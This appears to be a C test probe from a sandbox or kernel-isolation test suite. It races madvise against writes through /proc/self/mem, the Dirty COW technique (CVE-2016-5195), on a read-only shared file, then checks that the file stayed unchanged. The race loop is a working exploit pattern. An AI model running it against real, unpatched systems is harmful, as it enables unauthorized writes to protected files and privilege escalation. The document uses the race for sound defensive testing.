/*
 * Attack: Races a forced write against the loss of a private page (CVE-2016-5195), for a fifth of a second, to write a read-only
 *     file of the runtime. /proc/self/mem may be writable: what it writes must be a copy.
 * Row: T1.10
 * Promise: HELD
 * Without: none alone: the kernel's own repair holds
 * Class: any
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <sys/mman.h>
#include <time.h>

#include "probe.h"

static char *volatile map;
static volatile bool over;

static void *lose(void *unused)
{
    while (!over)
        madvise(map, 4096, MADV_DONTNEED);
    return unused;
}

int main(void)
{
    int file = open("/shared", O_RDONLY | O_CLOEXEC), memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
    CLAIM(file >= 0, "no shared file to attack");
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    char before = *map, other = (char)(before ^ 1), after = 0;
    pthread_t thread;
    struct timespec start, now;

    clock_gettime(CLOCK_MONOTONIC, &start);
    if (pthread_create(&thread, NULL, lose, NULL) == 0) {
        do {
            if (pwrite(memory, &other, 1, (off_t)(uintptr_t)map) < 0)
                break;
            clock_gettime(CLOCK_MONOTONIC, &now);
        } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 200);
        over = true;
        pthread_join(thread, NULL);
    }
    CLAIM(pread(file, &after, 1, 0) == 1 && after == before, "a read-only file was written");
    return verdict();
}
